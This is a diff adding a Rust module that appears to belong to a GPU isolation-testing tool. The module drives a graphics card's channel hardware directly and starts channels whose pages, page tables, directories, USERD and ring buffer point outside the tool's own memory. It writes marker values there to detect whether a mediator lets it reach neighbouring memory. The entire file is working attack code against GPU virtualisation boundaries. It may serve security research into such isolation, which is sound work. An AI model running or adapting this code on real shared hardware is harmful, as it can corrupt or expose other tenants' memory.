@@ -1,0 +1,213 @@
+//! A channel of our own making, without a driver: first with our own pages, then with pages and pointers outside.
+//!
+//! It releases semaphores only, which the host engine does itself: no other engine needs to be set up.
+
+use anyhow::Result;
+
+use super::attack::{BRAND, Ground};
+use super::layout::{Aperture, CHANNELS, PAGE, instance_pointer, own, reg};
+use crate::access::Width;
+
+/// The channel's address space is the third of our own.
+const SPACE: usize = 2;
+const RING_VA: u64 = 0x1_0000;
+const PUSH_VA: u64 = 0x1_1000;
+const DATA_VA: u64 = 0x10_0000;
+const OUTSIDE_VA: u64 = 0x20_0000;
+
+/// log2 of the entries of the ring.
+const RING_ORDER: u32 = 9;
+/// Reads of memory after which the card should have done its work.
+const PATIENCE: u32 = 20_000;
+/// What a good release leaves.
+const RELEASED: u32 = 0x5e3a_0001;
+/// Offset of the semaphore in the data page.
+const SEMAPHORE: u64 = 0x100;
+
+/// What came of it.
+pub struct Attacked {
+    /// A channel with our own pages worked.
+    pub armed: bool,
+    /// Channels that were started.
+    pub count: u64,
+    /// Channels that ran with tables or a ring that lie outside: they can have read them only there.
+    pub reached: u64,
+    /// Channels that ran on over a page or a USERD outside. No harm by itself: the card may have dropped the write, the
+    /// mediator may have put its own USERD there. Whether a neighbour was hit is for the neighbour to say.
+    pub passed: u64,
+}
+
+/// What is wrong with a channel.
+#[derive(Debug, Clone, Copy)]
+enum Flaw {
+    /// Nothing.
+    None,
+    /// The page that it writes.
+    Page(u64, Aperture),
+    /// Its page table.
+    Table(u64),
+    /// Its page directory.
+    Directory(u64),
+    /// Its USERD.
+    Userd(u64),
+    /// The page of its ring.
+    Ring(u64),
+}
+
+/// Starts channels with each flaw in turn.
+pub fn attack(ground: &mut Ground<'_>, probes: u64) -> Result<Attacked> {
+    start_pfifo(ground);
+    let mut attacked = Attacked { armed: false, count: 0, reached: 0, passed: 0 };
+    let mut id = 0;
+    let mut next = || {
+        id = (id + 1) % CHANNELS;
+        id
+    };
+    attacked.armed = one(ground, next(), Flaw::None);
+    attacked.count += 1;
+    for address in ground.outside(PAGE, probes) {
+        for flaw in [
+            Flaw::Page(address, Aperture::Vram),
+            Flaw::Page(address, Aperture::Peer),
+            Flaw::Page(address | 1 << 39, Aperture::Coherent),
+            Flaw::Table(address),
+            Flaw::Directory(address),
+            Flaw::Userd(address),
+            Flaw::Ring(address),
+        ] {
+            ground.found.pokes += 1;
+            attacked.count += 1;
+            if !one(ground, next(), flaw) {
+                continue;
+            }
+            match flaw {
+                Flaw::None | Flaw::Page(..) | Flaw::Userd(_) => attacked.passed += 1,
+                Flaw::Table(_) | Flaw::Directory(_) | Flaw::Ring(_) => {
+                    println!("a channel ran: {flaw:x?}");
+                    attacked.reached += 1;
+                }
+            }
+        }
+    }
+    Ok(attacked)
+}
+
+/// Brings PFIFO up, as a driver does.
+fn start_pfifo(ground: &Ground<'_>) {
+    let card = ground.card;
+    card.write(reg::PMC_ENABLE, card.read(reg::PMC_ENABLE) | 1 << 8);
+    card.write(reg::PBDMA_ENABLE, 0x7);
+    card.write(reg::PFIFO_PBDMAS, 0x7);
+    for (engine, pbdma) in [0u32, 1, 1, 1, 2, 1].into_iter().enumerate() {
+        card.write(reg::PFIFO_ROUTE + 4 * engine as u32, !(1 << pbdma));
+    }
+    for pbdma in 0..3 {
+        card.write(reg::PBDMA_INTR + pbdma * 0x2000, u32::MAX);
+        card.write(reg::PBDMA_INTR_ENABLE + pbdma * 0x2000, 0xffff_feff);
+    }
+    card.write(reg::PFIFO_ENABLE, card.read(reg::PFIFO_ENABLE) | 1);
+    card.write(reg::USERD_BASE, 0x1000_0000);
+    card.write(reg::PFIFO_INTR, u32::MAX);
+}
+
+/// Builds a channel, rings it, waits; says whether its last release, which goes to our own page, arrived.
+fn one(ground: &mut Ground<'_>, id: u32, flaw: Flaw) -> bool {
+    let (card, base) = (ground.card, ground.base);
+    let semaphore = base + own::DATA + SEMAPHORE;
+    card.vram_write(semaphore, 0);
+    build(ground, flaw);
+
+    // USERD through BAR1 at the channel's place; BAR1 uses our own tables.
+    let userd_va = u64::from(id) * PAGE;
+    ground.set_page(0, userd_va, base + own::USERD, Aperture::Vram);
+    card.write(reg::BAR1_INSTANCE, instance_pointer(base + own::BAR1_INSTANCE, 0));
+    ground.flush(base + own::DIRECTORIES[0]);
+    ground.flush(base + own::DIRECTORIES[SPACE]);
+    card.write(reg::CHANNEL + 8 * id, 0x4000_0000 | instance_pointer(base + own::INSTANCE, 0));
+    card.write(reg::CHANNEL_STATE + 8 * id, 0x001f_0001);
+    card.vram_write(base + own::RUNLIST, id);
+    card.vram_write(base + own::RUNLIST + 4, 4);
+    card.write(reg::RUNLIST, ((base + own::RUNLIST) >> 12) as u32);
+    card.write(reg::RUNLIST_SUBMIT, 0x01f0_0001);
+    card.bar1().store(userd_va as usize + 0x8c, Width::Dword, 1);
+
+    let wanted = if matches!(flaw, Flaw::None) { RELEASED } else { BRAND };
+    let patience = if matches!(flaw, Flaw::None) { PATIENCE } else { 32 };
+    let mut arrived = false;
+    for _ in 0..patience {
+        arrived = card.vram_read(semaphore) == wanted;
+        if arrived {
+            break;
+        }
+    }
+    card.write(reg::CHANNEL_STATE + 8 * id, 0);
+    card.write(reg::RUNLIST_SUBMIT, 0x01f0_0000);
+    card.write(reg::PREEMPT, id);
+    card.write(reg::CHANNEL + 8 * id, 0);
+    card.write(reg::PFIFO_INTR, u32::MAX);
+    arrived
+}
+
+/// Writes instance block, tables, ring and pushbuffer.
+fn build(ground: &Ground<'_>, flaw: Flaw) {
+    let (card, base) = (ground.card, ground.base);
+    let table = if let Flaw::Table(address) = flaw { address } else { base + own::TABLES[SPACE] };
+    ground.set_directory(SPACE, 0, None, Some((table, Aperture::Vram)));
+    let ring = if let Flaw::Ring(address) = flaw { address } else { base + own::RING };
+    ground.set_page(SPACE, RING_VA, ring, Aperture::Vram);
+    ground.set_page(SPACE, PUSH_VA, base + own::PUSH, Aperture::Vram);
+    ground.set_page(SPACE, DATA_VA, base + own::DATA, Aperture::Vram);
+    if let Flaw::Page(address, aperture) = flaw {
+        ground.set_page(SPACE, OUTSIDE_VA, address, aperture);
+    }
+
+    // One release outside, if there is an outside; then one at home, which shows that the first went through.
+    let mut words = Vec::new();
+    let mut release = |va: u64, payload: u32| {
+        let data = [(va >> 32) as u32, va as u32, payload, 0x0110_0002];
+        words.push(0x2000_0000 | 4 << 16 | 0x10 >> 2);
+        words.extend_from_slice(&data);
+    };
+    match flaw {
+        Flaw::None => release(DATA_VA + SEMAPHORE, RELEASED),
+        Flaw::Page(..) => {
+            release(OUTSIDE_VA + 0xff0, BRAND);
+            release(DATA_VA + SEMAPHORE, BRAND);
+        }
+        Flaw::Table(_) | Flaw::Directory(_) | Flaw::Userd(_) | Flaw::Ring(_) => {
+            release(DATA_VA + SEMAPHORE, BRAND);
+        }
+    }
+    for (at, word) in words.iter().enumerate() {
+        card.vram_write(base + own::PUSH + at as u64 * 4, *word);
+    }
+    card.vram_write(base + own::RING, PUSH_VA as u32);
+    card.vram_write(base + own::RING + 4, (words.len() as u32) << 10);
+
+    let userd = if let Flaw::Userd(address) = flaw { address } else { base + own::USERD };
+    let directory = if let Flaw::Directory(address) = flaw { address } else { base + own::DIRECTORIES[SPACE] };
+    card.vram_zero(base + own::USERD, PAGE);
+    card.vram_zero(base + own::INSTANCE, PAGE);
+    ground.set_instance(own::INSTANCE, directory, 0);
+    let words = [
+        (0x08, userd as u32),
+        (0x0c, (userd >> 32) as u32),
+        (0x10, 0x0000_face),
+        (0x30, 0xffff_f902),
+        (0x48, RING_VA as u32),
+        (0x4c, RING_ORDER << 16),
+        (0x54, 0x0000_0002),
+        (0x84, 0x2040_0000),
+        (0x94, 0x3000_0001),
+        (0x9c, 0x0000_0100),
+        (0xa4, 0x1f1f_1f1f),
+        (0xa8, 0x1f1f_1f1f),
+        (0xac, 0x0000_001f),
+        (0xb8, 0xf800_0000),
+        (0xf8, 0x1000_3080),
+        (0xfc, 0x1000_0010),
+    ];
+    for (offset, word) in words {
+        card.vram_write(base + own::INSTANCE + offset, word);
+    }
+}
